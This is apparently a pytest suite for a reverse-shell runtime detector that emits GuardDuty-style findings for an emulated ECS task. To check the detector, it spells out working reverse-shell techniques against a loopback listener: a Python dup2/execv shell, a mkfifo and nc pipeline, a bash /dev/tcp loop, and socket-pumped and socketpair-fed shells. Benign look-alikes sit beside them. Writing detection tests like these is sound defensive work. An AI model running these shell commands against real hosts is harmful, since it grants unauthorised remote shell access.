"""Execution:Runtime/ReverseShell end to end: the real sidecar in the emulated task, real shells, real sockets.

The finding must carry GuardDuty's shape (validated with detectors.finding.Finding), the task's identity from the
metadata endpoint, the shell with its lineage, and the remote end; a shell reading a pipe, a client connection from
a non-shell, and a non-interactive shell started by a relay without an exec option must not fire.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Iterator
from pathlib import Path

from taskenv import TaskEnv

from detectors.finding import Finding

PY = "/usr/bin/python3"
TYPE = "Execution:Runtime/ReverseShell"


@contextlib.contextmanager
def listener(host: str = "127.0.0.1") -> Iterator[tuple[socket.socket, int]]:
    srv = socket.socket()
    srv.bind((host, 0))
    srv.listen(4)
    srv.settimeout(30)
    try:
        yield srv, srv.getsockname()[1]
    finally:
        srv.close()


def test_reverse_shell_finding_and_benign_look_alikes(task_env: TaskEnv, tmp_path: Path) -> None:
    sidecar = task_env.start_detecting(tmp_path)
    with listener("127.0.0.9") as (srv, port):
        # benign first: a shell on a pipe, a python client holding a connection, both must stay quiet
        task_env.run("app", ["sh", "-c", "echo 'sleep 0.5' | sh"])
        client = f"import socket, time; s = socket.create_connection(('127.0.0.9', {port})); time.sleep(1.5)"
        task_env.run("worker", [PY, "-c", client], wait=False)
        srv.accept()[0].close()
        code = (
            f"import os, socket; s = socket.create_connection(('127.0.0.9', {port})); "
            "[os.dup2(s.fileno(), f) for f in (0, 1, 2)]; os.execv('/bin/sh', ['sh', '-i'])"
        )
        shell_pid = task_env.spawn("app", [PY, "-c", code])
        conn, _ = srv.accept()
        with conn:
            conn.sendall(b"sleep 2\n")
            f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
            conn.sendall(b"exit\n")
        time.sleep(1.0)
    Finding.model_validate(f)
    assert f["severity"] == 8.0
    assert f["schemaVersion"] == "2.0" and f["service"]["featureName"] == "RuntimeMonitoring"
    proc = f["service"]["runtimeDetails"]["process"]
    assert proc["pid"] == shell_pid and proc["executablePath"] in ("/bin/dash", "/usr/bin/dash")
    assert proc["lineage"], "the shell's ancestors are in the finding"
    net = f["service"]["action"]["networkConnectionAction"]
    assert net["remoteIpDetails"]["ipAddressV4"] == "127.0.0.9" and net["remotePortDetails"]["port"] == port
    ecs = f["resource"]["ecsClusterDetails"]
    assert ecs["taskDetails"]["arn"] == task_env.task_json["TaskARN"]
    assert ecs["taskDetails"]["containers"][0]["name"] == "app"
    assert f["accountId"] == task_env.task_json["TaskARN"].split(":")[4]
    assert "app" in f["title"] and str(shell_pid) in f["description"]
    assert sidecar.stop() == 0
    findings = sidecar.findings()
    assert {x["type"] for x in findings if x["severity"] >= 4} == {TYPE}, findings
    assert len({x["id"] for x in findings if x["type"] == TYPE}) == 1


def test_relay_started_shell(task_env: TaskEnv, tmp_path: Path) -> None:
    """`socat exec:sh tcp:...`-style: the shell's stdio is a socketpair, the relay holds the connection."""
    relay = task_env.path_in("app", "/tmp/socat")
    relay.write_text(
        "#!/usr/bin/python3\n"
        "import os, socket, subprocess, sys\n"
        "host, port = sys.argv[-1].rsplit(':', 2)[1:]\n"
        "s = socket.create_connection((host, int(port)))\n"
        "a, b = socket.socketpair()\n"
        "p = subprocess.Popen(['sh', '-i'], stdin=b, stdout=b, stderr=b)\n"
        "b.close(); a.sendall(b'sleep 2; exit\\n'); p.wait()\n"
    )
    relay.chmod(0o755)
    sidecar = task_env.start_detecting(tmp_path)
    with listener("127.0.0.9") as (srv, port):
        task_env.run("app", ["/tmp/socat", "-", f"exec:sh,pty tcp:127.0.0.9:{port}"], wait=False)
        conn, _ = srv.accept()
        f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
        conn.close()
    assert f["service"]["runtimeDetails"]["context"]["relayProcess"] == "socat"
    # a relay without an exec option running a shell script is not a reverse shell
    task_env.run("worker", ["sh", "-c", "cp /bin/sh /tmp/socat2; echo ok"])
    time.sleep(1)
    assert sidecar.stop() == 0
    assert len({x["id"] for x in sidecar.findings() if x["type"] == TYPE}) == 1


NC_RELAY = """#!/usr/bin/python3
import socket, sys, threading
args = [a for a in sys.argv[1:] if not a.startswith("-")]
s = socket.create_connection((args[0], int(args[1])))
if "-z" in sys.argv:
    sys.exit(0)
def pump():
    while data := s.recv(4096):
        sys.stdout.buffer.write(data)
        sys.stdout.buffer.flush()
threading.Thread(target=pump, daemon=True).start()
while data := sys.stdin.buffer.read1(4096):
    s.sendall(data)
"""


def test_fifo_pipeline_reverse_shell_and_a_port_check_next_to_a_shell(task_env: TaskEnv, tmp_path: Path) -> None:
    """`cat f | sh -i | nc host port > f`: no socket on the shell's stdio, the relay beside it holds it."""
    for c in ("app", "worker"):
        nc = task_env.path_in(c, "/tmp/nc")
        nc.write_text(NC_RELAY)
        nc.chmod(0o755)
    sidecar = task_env.start_detecting(tmp_path)
    with listener("127.0.0.9") as (srv, port):
        # benign: a port check beside a shell reading a pipe
        task_env.run("worker", ["sh", "-c", f"echo 'sleep 1' | sh & /tmp/nc -z 127.0.0.9 {port}; wait"])
        srv.accept()[0].close()
        # benign: an operator's session (a shell reading commands from a pipe, as `docker exec -i` gives it)
        # talks to a service through nc from a subshell: the subshell reads and writes the session's own stdio
        task_env.run(
            "worker",
            ["sh"],
            stdin=f"(echo PING; sleep 2) | /tmp/nc 127.0.0.9 {port}\necho | /tmp/nc 127.0.0.9 {port} | head -c 1\n",
            wait=False,
        )
        srv.accept()[0].close()
        srv.accept()[0].close()
        pipeline = f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | /tmp/nc 127.0.0.9 {port} > /tmp/f"
        task_env.run("app", ["sh", "-c", pipeline], wait=False)
        conn, _ = srv.accept()
        with conn:
            conn.sendall(b"sleep 3\n")
            f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
            conn.sendall(b"exit\n")
    Finding.model_validate(f)
    context = f["service"]["runtimeDetails"]["context"]
    assert context["relayProcess"] == "nc" and str(port) in context["relayCommandLine"]
    proc = f["service"]["runtimeDetails"]["process"]
    assert proc["name"] == "sh" and "-i" in proc["commandLine"]
    assert f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
    time.sleep(1)
    assert sidecar.stop() == 0
    assert len({x["id"] for x in sidecar.findings() if x["type"] == TYPE}) == 1


PUMPED_SHELL = """
import socket, subprocess, sys, threading
s = socket.create_connection(("127.0.0.9", int(sys.argv[1])))
sh = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def out():
    while data := sh.stdout.read1(4096):
        s.sendall(data)
threading.Thread(target=out, daemon=True).start()
while data := s.recv(4096):
    sh.stdin.write(data)
    sh.stdin.flush()
sh.wait()
"""

POOLED_APP = """
import socket, subprocess, sys, time
db = socket.create_connection(("127.0.0.9", int(sys.argv[1])))  # a pooled connection, made at start
time.sleep(7)
# later, a maintenance job: a script fed to sh over pipes
subprocess.run(["/bin/sh"], input=b"sleep 2; echo done\\n", stdout=subprocess.PIPE, check=True)
"""

JOB_RUNNER = """
import socket, subprocess, sys
db = socket.create_connection(("127.0.0.9", int(sys.argv[1])))  # connects, then at once runs its job script
subprocess.run(["/bin/sh"], input=b"sleep 3; echo done\\n", stdout=subprocess.PIPE, check=True)
"""

TERMINAL_SESSION = """
import os, socket, subprocess, sys, time
s = socket.create_connection(("127.0.0.9", int(sys.argv[1])))
primary, secondary = os.openpty()
sh = subprocess.Popen(["/bin/sh"], stdin=secondary, stdout=secondary, stderr=secondary)
subprocess.run(["sh", "-c", "echo one-shot"], check=True)
os.write(primary, b"sleep 2; exit\\n")
sh.wait()
"""


def test_shell_pumped_by_a_client_and_a_terminal_session(task_env: TaskEnv, tmp_path: Path) -> None:
    """java/node/go reverse shells: the client holds the socket and pumps it to a shell's pipes. An agent giving
    a shell a pty (ECS Exec, ssh) while holding a connection, and its `sh -c` commands, are not."""
    sidecar = task_env.start_detecting(tmp_path)
    with listener("127.0.0.9") as (srv, port):
        task_env.run("worker", [PY, "-c", POOLED_APP, str(port)], wait=False)
        pooled, _ = srv.accept()
        task_env.run("worker", [PY, "-c", JOB_RUNNER, str(port)], wait=False)
        job, _ = srv.accept()
        task_env.run("worker", [PY, "-c", TERMINAL_SESSION, str(port)], wait=False)
        benign, _ = srv.accept()
        time.sleep(4)
        benign.close()
        task_env.run("app", [PY, "-c", PUMPED_SHELL, str(port)], wait=False)
        conn, _ = srv.accept()
        with conn:
            conn.sendall(b"sleep 3\n")
            f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
            conn.sendall(b"exit\n")
        time.sleep(5)  # the pooled app's maintenance script has run
        pooled.close()
        job.close()
    Finding.model_validate(f)
    assert f["service"]["runtimeDetails"]["process"]["executablePath"] in ("/bin/dash", "/usr/bin/dash")
    assert f["service"]["runtimeDetails"]["context"]["relayProcess"].startswith("python")
    assert "pumps that connection" in f["description"]
    net = f["service"]["action"]["networkConnectionAction"]
    assert net["remoteIpDetails"]["ipAddressV4"] == "127.0.0.9" and net["remotePortDetails"]["port"] == port
    assert f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
    time.sleep(1)
    assert sidecar.stop() == 0
    assert len({x["id"] for x in sidecar.findings() if x["type"] == TYPE}) == 1


SOCKETPAIR_SHELL = """
import socket, subprocess, sys
s = socket.create_connection(("127.0.0.10", int(sys.argv[1])))
mine, theirs = socket.socketpair()  # what node's child_process.spawn gives a child for its stdio
sh = subprocess.Popen(["/bin/sh"], stdin=theirs, stdout=theirs, stderr=theirs)
theirs.close()
import threading
def out():
    while data := mine.recv(4096):
        s.sendall(data)
threading.Thread(target=out, daemon=True).start()
while data := s.recv(4096):
    mine.sendall(data)
sh.wait()
"""


def test_dev_tcp_loops_and_a_socketpair_fed_shell(task_env: TaskEnv, tmp_path: Path) -> None:
    """bash's /dev/tcp with the connection on fd 5 and a `while read` loop running what it reads; a shell whose
    stdio is a socketpair pumped by its parent (node's spawn). Port checks and a hand-made HTTP request through
    /dev/tcp are not reverse shells."""
    sidecar = task_env.start_detecting(tmp_path)
    with listener("127.0.0.9") as (srv, port), listener("127.0.0.10") as (srv2, port2):
        for benign in (
            f"</dev/tcp/127.0.0.9/{port}",
            f"exec 3<>/dev/tcp/127.0.0.9/{port}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; timeout 1 cat <&3",
        ):
            task_env.run("worker", ["bash", "-c", benign], wait=False)
            srv.accept()[0].close()
        loop = f"exec 5<>/dev/tcp/127.0.0.9/{port}; cat <&5 | while read line; do $line 2>&5 >&5; done"
        task_env.run("app", ["bash", "-c", loop], wait=False)
        conn, _ = srv.accept()
        task_env.run("worker", [PY, "-c", SOCKETPAIR_SHELL, str(port2)], wait=False)
        conn2, _ = srv2.accept()
        with conn, conn2:
            conn.sendall(b"sleep 2\n")
            conn2.sendall(b"sleep 3\n")
            dev_tcp = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and "/dev/tcp" in f["description"], 20)
            pumped = sidecar.wait_for_finding(lambda f: f["type"] == TYPE and "pumps" in f["description"], 20)
    for f in (dev_tcp, pumped):
        Finding.model_validate(f)
        assert f["severity"] == 8.0
    assert dev_tcp["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
    assert f"127.0.0.9:{port}" in dev_tcp["description"]
    assert pumped["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "worker"
    assert pumped["service"]["action"]["networkConnectionAction"]["remoteIpDetails"]["ipAddressV4"] == "127.0.0.10"
    time.sleep(1)
    assert sidecar.stop() == 0
    assert len({x["id"] for x in sidecar.findings() if x["type"] == TYPE}) == 2
